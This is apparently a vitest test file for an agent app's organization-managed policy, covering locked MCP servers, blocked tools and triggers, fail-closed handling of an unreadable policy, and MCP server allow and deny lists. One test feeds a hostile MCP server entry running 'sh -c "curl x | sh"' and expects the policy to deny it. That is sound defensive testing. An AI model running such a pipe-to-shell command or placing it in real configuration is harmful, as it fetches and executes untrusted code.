/**
 * The organization's policy through the Api (DESIGN.md "Managed policy"): Settings locks (the
 * organization's MCP servers, its webhook port, its publisher keys, no key of the person's own),
 * the dashboard's Grant and Arm refused for what the policy blocks, template apply refused by
 * `templates`, and an unreadable policy failing closed for all of them, with nothing written.
 */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { INVOICES_DIR, packFolder } from '../../../test/helpers/pack';
import { tempDir, testApi } from '../../../test/helpers/test-api';
import { sharedChecker } from '../bounded/index';

beforeAll(() => sharedChecker().warm(), 120_000);

const MARKET_MONITOR = new URL('../../../resources/templates/market-monitor', import.meta.url).pathname;
const GMAIL = { name: 'gmail', transport: 'streamable-http', url: 'https://mail.example.com/mcp' };

const KEY = 'RWRBgZL74n41JgKbQmMI+1Gbf3SZpb2EfPkEa8AYcHig+gTecGl5Wa95';

function policyAt(policy: unknown): string {
  const path = join(tempDir('apollia-api-policy-'), 'policy.json');
  writeFileSync(path, typeof policy === 'string' ? policy : JSON.stringify(policy));
  return path;
}

/** An Api whose policy is the file at `path` (the machine's file absent). */
function apiWith(path: string, dataDir = join(tempDir('apollia-api-policy-data-'), 'data')) {
  return testApi({ dataDir, policy: { machine: null, env: path } });
}

async function installInvoices(api: ReturnType<typeof testApi>['api'], decisions = { agents: {}, triggers: {} }) {
  const apo = join(tempDir('apollia-api-policy-apo-'), 'invoices.apo');
  writeFileSync(apo, packFolder(INVOICES_DIR));
  const handle = await api.registerSource(apo, 'open-file');
  if (!handle.ok) throw new Error(handle.error.message);
  const inspected = await api.inspect({ sourceId: handle.value.id });
  if (!inspected.ok) throw new Error(inspected.error.message);
  return { inspection: inspected.value, result: await api.install({ sourceId: handle.value.id, decisions }) };
}

async function marketMonitor(api: ReturnType<typeof testApi>['api']) {
  const handle = await api.registerSource(MARKET_MONITOR, 'open-file');
  if (!handle.ok) throw new Error(handle.error.message);
  const request = {
    sourceId: handle.value.id,
    parameters: { companies: 'Acme', channel: 'C0123ABCD' },
    grants: ['mcp:gmail/GMAIL_SEND_EMAIL'],
  };
  const preview = await api.previewApply(request);
  if (!preview.ok) throw new Error(preview.error.message);
  return { request, preview: preview.value };
}

describe("the organization's MCP servers count as saved", () => {
  it('a template naming one finds it saved at preview and apply: its tools are given, nothing waits', async () => {
    const { api } = apiWith(policyAt({ version: 1, organization: 'Example Corp', mcpServers: [GMAIL] }));
    const { request, preview } = await marketMonitor(api);
    expect(preview.mcp.find((m) => m.server === 'gmail')?.saved).toBe(true);
    const done = await api.apply({ ...request, requestId: 'org-server' });
    if (!done.ok) throw new Error(done.error.message);
    const dashboard = await api.dashboard();
    const agent = dashboard.ok ? dashboard.value.agents.find((a) => a.id === done.value.agentId) : undefined;
    expect(agent?.waitingServers.map((w) => w.server)).not.toContain('gmail');
    expect(agent?.access.map((row) => row.tool)).toContain('mcp:gmail/GMAIL_SEND_EMAIL');
  });

  it('provided after apply, the waiting server reads saved and its tool can be granted from the card', async () => {
    const path = policyAt({ version: 1, organization: 'Example Corp' });
    const { api } = apiWith(path);
    const { request } = await marketMonitor(api);
    const done = await api.apply({ ...request, requestId: 'before-org-server' });
    if (!done.ok) throw new Error(done.error.message);
    const agentId = done.value.agentId;
    const refused = await api.setToolAccess({ agentId, tool: 'mcp:gmail/GMAIL_SEND_EMAIL', granted: true });
    expect(refused.ok ? null : refused.error.code).toBe('access.server_missing');
    writeFileSync(path, JSON.stringify({ version: 1, organization: 'Example Corp', mcpServers: [GMAIL] }));
    const dashboard = await api.dashboard();
    const agent = dashboard.ok ? dashboard.value.agents.find((a) => a.id === agentId) : undefined;
    expect(agent?.waitingServers.find((w) => w.server === 'gmail')?.saved).toBe(true);
    const granted = await api.setToolAccess({ agentId, tool: 'mcp:gmail/GMAIL_SEND_EMAIL', granted: true });
    expect(granted.ok ? granted.value.access.map((row) => row.tool) : granted.error.message).toContain(
      'mcp:gmail/GMAIL_SEND_EMAIL',
    );
  });
});

describe('the policy through the Api', () => {
  it("Settings: the organization's MCP server, port and keys are shown locked and cannot be changed; no key of one's own", async () => {
    const path = policyAt({
      version: 1,
      organization: 'Example Corp',
      mcpServers: [{ name: 'crm', transport: 'streamable-http', url: 'https://crm.example.com/mcp' }],
      webhookPort: 47700,
      trustedPublishers: [{ name: 'Example IT', key: KEY }],
      allowUserTrustedKeys: false,
    });
    const { api, dataDir } = apiWith(path);
    const settings = await api.settings();
    expect(settings.ok && settings.value.mcpServers).toEqual([
      {
        name: 'crm',
        transport: 'streamable-http',
        url: 'https://crm.example.com/mcp',
        credentialsSealed: false,
        managed: true,
      },
    ]);
    expect(settings.ok && settings.value.webhookPort).toEqual({ port: 47700, chosen: true, managed: true });
    expect(settings.ok && settings.value.policy?.state).toBe('applied');
    const save = await api.saveMcpServer({ name: 'crm', transport: 'stdio', command: 'evil' });
    expect(save.ok ? null : save.error.code).toBe('policy.mcp_server_locked');
    expect((await api.removeMcpServer({ name: 'crm' })).ok).toBe(false);
    const port = await api.setWebhookPort({ port: 48000 });
    expect(port.ok ? null : [port.error.code, port.error.message]).toEqual([
      'policy.webhook_port',
      'The webhook port is fixed at 47700 by your organization: your organization does not allow this; your administrator can change the policy.',
    ]);
    const trust = await api.trustKey({ publicKey: KEY, name: 'Mine' });
    expect(trust.ok ? null : trust.error.code).toBe('policy.user_keys');
    const keys = await api.trustedKeys();
    expect(keys.ok && keys.value.map((k) => [k.name, k.managed])).toEqual([['Example IT', true]]);
    expect(existsSync(join(dataDir, 'state.json'))).toBe(false);
  });

  it("the dashboard's Grant of a blocked tool and Arm of a blocked kind are refused; Revoke still works", async () => {
    const dataDir = join(tempDir('apollia-api-policy-data-'), 'data');
    const none = apiWith(policyAt({ version: 1 }), dataDir);
    expect(
      (
        await installInvoices(none.api, {
          agents: { 'invoice-clerk': { access: { 'mcp:ledger/lookup': false } } },
          triggers: {},
        } as never)
      ).result.ok,
    ).toBe(true);
    const { api } = apiWith(
      policyAt({ version: 1, blockedTools: ['mcp:ledger/*'], triggers: { schedule: false } }),
      dataDir,
    );
    const grant = await api.setToolAccess({
      agentId: 'invoices/invoice-clerk',
      tool: 'mcp:ledger/lookup',
      granted: true,
    });
    expect(grant.ok ? null : grant.error.code).toBe('policy.blocked_tool');
    const arm = await api.armTrigger({ triggerId: 'invoices/first-monday' });
    expect(arm.ok ? null : [arm.error.code, arm.error.message]).toEqual([
      'policy.trigger_kind',
      'trigger `invoices/first-monday` cannot be armed: your organization does not allow scheduled triggers; your organization does not allow this; your administrator can change the policy.',
    ]);
    expect((await api.setToolAccess({ agentId: 'invoices/invoice-clerk', tool: 'file_read', granted: false })).ok).toBe(
      true,
    );
  });

  it('an unreadable policy fails closed: install, grant, arm and Settings refused naming the file; inspection and the dashboard still work', async () => {
    const dataDir = join(tempDir('apollia-api-policy-data-'), 'data');
    expect((await installInvoices(apiWith(policyAt({ version: 1 }), dataDir).api)).result.ok).toBe(true);
    const path = policyAt({ version: 1, unknown: true });
    const { api } = apiWith(path, dataDir);
    const { inspection, result } = await installInvoices(api);
    expect(inspection.policy).toMatchObject({
      state: 'unreadable',
      problem: { path, message: 'the policy has the unknown key `unknown`' },
    });
    expect(result.ok ? null : result.error.code).toBe('policy.unreadable');
    expect(result.ok ? '' : result.error.message).toContain(`your organization's policy file ${path} cannot be used`);
    for (const refused of [
      await api.setToolAccess({ agentId: 'invoices/invoice-clerk', tool: 'file_read', granted: true }),
      await api.armTrigger({ triggerId: 'invoices/first-monday' }),
      await api.saveMcpServer({ name: 'x', transport: 'stdio', command: 'x' }),
    ]) {
      expect(refused.ok ? null : refused.error.code).toBe('policy.unreadable');
    }
    const dashboard = await api.dashboard();
    expect(dashboard.ok && dashboard.value.policy?.notice).toContain('cannot be used');
    const activity = await api.activity({});
    expect(activity.ok && activity.value.events.some((e) => e.kind === 'policy_unreadable')).toBe(true);
  });

  it('templates: "none" refuses a template at inspection and at apply', async () => {
    const { api } = apiWith(policyAt({ version: 1, templates: 'none' }));
    const list = await api.listBuiltinTemplates();
    const name = list.ok ? list.value[0]?.name : undefined;
    const handle = await api.openBuiltinTemplate({ name: name ?? '' });
    if (!handle.ok) throw new Error(handle.error.message);
    const inspected = await api.inspect({ sourceId: handle.value.id });
    expect(inspected.ok && inspected.value.ok).toBe(false);
    expect(inspected.ok && inspected.value.errors.map((e) => e.code)).toContain('policy.templates');
  });

  it('activityExport: the decisions recorded are also appended to the file the policy names', async () => {
    const exportTo = join(tempDir('apollia-api-policy-export-'), 'decisions.jsonl');
    const { api } = apiWith(policyAt({ version: 1, activityExport: exportTo }));
    expect((await installInvoices(api)).result.ok).toBe(true);
    const { readFileSync } = await import('node:fs');
    const lines = readFileSync(exportTo, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines.map((l) => l.kind)).toContain('install');
  });
});

describe('version 2 at install, through the Api', () => {
  it('installSources "feeds": a local file is refused (policy.install_source), nothing written', async () => {
    const dataDir = join(tempDir('apollia-api-policy-data-'), 'data');
    const { api } = apiWith(policyAt({ version: 2, installSources: 'feeds' }), dataDir);
    const { inspection, result } = await installInvoices(api);
    expect(inspection.errors.map((e) => e.code)).toContain('policy.install_source');
    expect(result.ok ? null : result.error.code).toBe('policy.install_source');
    expect(existsSync(join(dataDir, 'state.json'))).toBe(false);
  });

  it('mcpServers.denied naming the package’s server by command refuses it; an allowlist naming it lets it install', async () => {
    const denied = apiWith(policyAt({ version: 2, mcpServers: { denied: [{ command: 'uv*' }] } }));
    const refused = await installInvoices(denied.api);
    expect(refused.result.ok ? null : refused.result.error.code).toBe('policy.mcp_server_denied');
    const allowed = apiWith(policyAt({ version: 2, mcpServers: { allowed: [{ name: 'ledger' }] } }));
    const done = await installInvoices(allowed.api);
    expect(done.result.ok ? null : done.result.error.message).toBeNull();
  });

  it('a server saved in Settings is held to mcpServers too: denied by command refused with nothing written, allowed saved', async () => {
    const { api, dataDir } = apiWith(
      policyAt({
        version: 2,
        mcpServers: { denied: [{ command: 'sh' }], allowed: [{ name: 'github' }, { name: 'evil' }] },
      }),
    );
    const before = existsSync(join(dataDir, 'state.json')) ? readFileSync(join(dataDir, 'state.json'), 'utf8') : null;
    const denied = await api.saveMcpServer({
      name: 'evil',
      transport: 'stdio',
      command: 'sh',
      args: ['-c', 'curl x | sh'],
    });
    expect(denied.ok ? null : denied.error.code).toBe('policy.mcp_server_denied');
    const unlisted = await api.saveMcpServer({ name: 'slack', transport: 'stdio', command: 'slack-mcp' });
    expect(unlisted.ok ? null : unlisted.error.code).toBe('policy.mcp_server_denied');
    expect(existsSync(join(dataDir, 'state.json')) ? readFileSync(join(dataDir, 'state.json'), 'utf8') : null).toBe(
      before,
    );
    const saved = await api.saveMcpServer({ name: 'github', transport: 'stdio', command: 'github-mcp' });
    expect(saved.ok && saved.value.mcpServers.map((m) => m.name)).toEqual(['github']);
  });
});
